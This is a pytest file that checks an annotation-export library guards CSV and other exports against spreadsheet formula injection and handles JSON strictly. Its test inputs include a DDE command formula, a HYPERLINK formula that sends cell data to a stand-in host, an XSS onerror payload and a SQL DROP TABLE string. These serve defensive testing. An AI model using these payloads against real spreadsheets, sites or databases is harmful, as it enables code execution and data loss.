"""Text and numbers in exports: exact, strict, and harmless in a spreadsheet."""

import csv
import io
import json

import numpy as np
import pytest

from refinerank_core.errors import FormatError
from refinerank_core.formats import strict_json
from refinerank_core.formats.catalogue import FORMATS, pack, read_rows, unpack
from refinerank_core.formats.rows import Asked, Row
from refinerank_core.formats.table import neutral, original

CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'a,"b"\nc;=1+1',
    "=grasper",
    "'=quoted",
    "''plain",
    "'",
    "plain",
    "<img src=x onerror=\"document.title='owned'\">",
    "line1\nline2",
    "\u202egrepsar",
    "'; DROP TABLE reviews; --",
    "Ärzte 手术 🩺 عربى",
]
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def _row(text: str) -> Row:
    return Row(
        video="clip.mp4",
        frame_index=3,
        size_wh=(640, 360),
        box=(-0.0, 1.5, 20.25, 30.0),
        label="hook",
        question=text,
        comment=text,
        score=-0.35,
    )


@pytest.mark.parametrize("text", CELLS, ids=range(len(CELLS)))
def test_a_cell_never_starts_a_formula_and_reads_back_exactly(text: str) -> None:
    assert not neutral(text).startswith(DANGEROUS)
    assert original(neutral(text)) == text


def test_a_csv_of_hostile_text_is_safe_and_exact() -> None:
    rows = [_row(text) for text in CELLS]
    (content,) = FORMATS["csv"].write(rows).files.values()

    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    header, numbers = lines[0], ("score", "x0_px", "frame_index")
    for line in lines[1:]:
        texts = [cell for cell, name in zip(line, header, strict=True) if name not in numbers]
        assert not any(cell.startswith(DANGEROUS) for cell in texts)
        assert line[header.index("score")] == "-0.35"
    reading = read_rows("csv", {"a.csv": content}, Asked())
    assert [row.comment for row in reading.rows] == CELLS
    assert [row.score for row in reading.rows] == [-0.35] * len(CELLS)


@pytest.mark.parametrize("name", ["jsonl", "csv", "coco", "cvat", "label-studio"])
def test_text_survives_every_format_that_holds_it(name: str) -> None:
    texts = CELLS if name != "cvat" else [text for text in CELLS if text.strip() == text]
    _, content = pack(FORMATS[name].write([_row(text) for text in texts]))

    reading = read_rows(name, unpack("file", content), Asked(any_size=(640, 360)))

    assert [row.comment for row in reading.rows] == texts


@pytest.mark.parametrize("text", CELLS, ids=range(len(CELLS)))
def test_a_label_survives_every_format(text: str) -> None:
    row = Row(video="c.mp4", frame_index=0, size_wh=(64, 36), box=(1, 2, 3, 4), label=text)
    for name in ("jsonl", "csv", "coco", "cvat", "label-studio", "yolo"):
        _, content = pack(FORMATS[name].write([row]))
        reading = read_rows(name, unpack("file", content), Asked(any_size=(64, 36)))
        assert [one.label for one in reading.rows] == [text], name


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ({"a": float("nan"), "b": 1}, {"a": None, "b": 1, "not_finite": ["a"]}),
        ({"a": [1.0, float("inf")]}, {"a": [1.0, None], "not_finite": ["a"]}),
        ({"a": np.float32("nan")}, {"a": None, "not_finite": ["a"]}),
        ({"a": np.float32(0.5), "b": np.int64(3), "c": np.bool_(True)},
         {"a": 0.5, "b": 3, "c": True}),
        ({"a": np.array([1.0, 2.0])}, {"a": [1.0, 2.0]}),
        ([-0.0, 1e308], [0.0, 1e308]),
    ],
)  # fmt: skip
def test_json_is_strict_and_numbers_are_plain(value: object, written: object) -> None:
    def refuse(word: str) -> None:
        raise AssertionError(word)

    assert json.loads(strict_json.dumps(value), parse_constant=refuse) == written


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('{"score": NaN, "box": [1, 2, Infinity, 4]}', "score is NaN"),
        ('{"box": [1, 2, -Infinity, 4]}', r"box\[2\] is -Infinity"),
        ('[{"a": {"b": NaN}}]', r"\[0\].a.b is NaN"),
        ("NaN", "The value is NaN"),
        ('{"a": 1,}', "line 1"),
        ("[" * 100_000, "nested too deeply|line 1"),
    ],
)
def test_what_is_no_strict_json_is_named(text: str, words: str) -> None:
    with pytest.raises(FormatError, match=words):
        strict_json.loads(text)


def test_elements_know_their_lines() -> None:
    text = '{"x": {"list": [0]},\n "list":\n [\n {"a": 1},\n 2, "]"\n, [3]\n]}'

    assert list(strict_json.elements(text, "list")) == [(4, {"a": 1}), (5, 2), (5, "]"), (6, [3])]
    assert list(strict_json.elements("[]")) == []
